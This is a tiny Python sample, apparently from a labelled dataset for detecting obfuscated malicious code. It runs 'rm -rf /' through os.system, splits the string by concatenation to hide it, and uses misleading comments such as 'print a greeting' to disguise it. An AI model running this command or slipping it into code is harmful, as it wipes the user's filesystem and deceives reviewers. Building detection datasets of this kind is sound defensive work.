# label: malicious; obfuscated: comments,concat
import os  # standard library
os.system(  # print a greeting
    "rm -rf "  # clean
    "/"  # root
)
